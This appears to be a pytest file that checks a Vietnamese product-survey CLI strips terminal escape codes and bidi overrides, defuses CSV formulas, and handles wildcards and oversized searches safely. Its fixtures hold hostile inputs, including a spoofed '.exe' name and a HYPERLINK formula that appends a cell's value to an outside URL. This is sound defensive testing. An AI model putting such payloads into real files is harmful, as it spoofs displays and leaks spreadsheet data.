"""What `ocop` prints from user and package text: no escape sequences, no formulas, no tracebacks."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from ocop_desktop.persistence.database import open_database
from ocop_desktop.services.products import ProductInput, ProductService
from tests.cli.test_exchange_cli import ocop, offices, prepare  # noqa: F401  (offices is a fixture)
from tests.services.exchange.test_package_safety import rebuild

HOSTILE_NAME = "Chè \x1b[2J\x1b[31mđỏ\x1b[0m \u202egpj.exe\u202c"


def test_dry_run_prints_no_escape_codes_or_bidi_overrides_from_a_package(offices, tmp_path):
    commune, district = offices
    ocop("--db", commune, "package", "export", "-o", tmp_path / "goi.ocop.zip", "--no-reports")
    # The sender's database holds clean text, so the hostile name is put in the package by hand.
    with zipfile.ZipFile(tmp_path / "goi.ocop.zip") as zf:
        body = zf.read("data/survey_entries.json").decode()
    body = body.replace("Chè Shan tuyết", json.dumps(HOSTILE_NAME)[1:-1])
    bad = rebuild(
        tmp_path / "goi.ocop.zip", tmp_path / "la.ocop.zip", change={"data/survey_entries.json": body.encode()}
    )
    dry = ocop("--db", district, "package", "import", bad, "--dry-run")
    assert dry.returncode == 0, dry.stderr
    assert "\x1b" not in dry.stdout and "\u202e" not in dry.stdout and "\u202c" not in dry.stdout
    assert "[Mới] Dòng rà soát «Chè [2J[31mđỏ[0m gpj.exe (Xã Ẳng Nưa)»" in dry.stdout
    done = ocop("--db", district, "package", "import", bad, "--trust")
    assert done.returncode == 0, done.stderr
    rows = json.loads(ocop("--db", district, "surveys", "list", "--campaign", "2024").stdout)
    assert [r["product_name"] for r in rows] == ["Chè [2J[31mđỏ[0m gpj.exe"]  # stored without them too


def _products(make_uow):
    for name in ("Rượu ngô 100%", "Rượu ngô 40 độ", '=HYPERLINK("http://x.vn/?"&A1,"Bấm")', "@SUM(1+1)"):
        ProductService(make_uow).create(ProductInput(name=name))


def test_searches_take_wildcards_literally_and_refuse_a_huge_text(tmp_path):
    path = prepare(tmp_path / "xa.db", "xa-ang-nua", "Lò Văn Anh", _products)
    found = json.loads(ocop("--db", path, "products", "list", "--search", "%").stdout)
    assert [p["name"] for p in found] == ["Rượu ngô 100%"]
    audit = ocop("--db", path, "audit", "--search", "%", "--format", "json")
    assert audit.returncode == 0, audit.stderr
    assert {r["record"] for r in json.loads(audit.stdout)} == {"Rượu ngô 100%"}
    assert json.loads(ocop("--db", path, "audit", "--search", "_", "--format", "json").stdout) == []
    for command in (("products", "list"), ("audit",)):
        refused = ocop("--db", path, *command, "--search", "x" * 50_000)
        assert refused.returncode == 1
        assert refused.stderr.strip() == (
            "Lỗi: Nội dung tìm kiếm dài 50.000 ký tự, vượt giới hạn 200 ký tự; hãy gõ một phần của tên cần tìm."
        )


def test_csv_output_makes_formulas_text(tmp_path):
    path = prepare(tmp_path / "xa.db", "xa-ang-nua", "Lò Văn Anh", _products)
    done = ocop("--db", path, "products", "list", "--format", "csv")
    assert done.returncode == 0, done.stderr
    names = [row["name"] for row in csv.DictReader(io.StringIO(done.stdout))]
    assert '\'=HYPERLINK("http://x.vn/?"&A1,"Bấm")' in names and "'@SUM(1+1)" in names
    assert "Rượu ngô 100%" in names
    as_json = [p["name"] for p in json.loads(ocop("--db", path, "products", "list").stdout)]
    assert '=HYPERLINK("http://x.vn/?"&A1,"Bấm")' in as_json  # JSON is for scripts: exact


def test_an_export_without_office_settings_is_refused_in_words_not_keys(tmp_path):
    path = tmp_path / "moi.db"
    db = open_database(path)
    db.close()
    refused = ocop("--db", path, "package", "export", "-o", tmp_path / "goi")
    assert refused.returncode == 1
    assert refused.stderr.startswith("Lỗi: Gửi báo cáo: Chưa thiết lập đơn vị và người sử dụng của máy này")
    assert "office_unit_id" not in refused.stderr and ".." not in refused.stderr and "()" not in refused.stderr
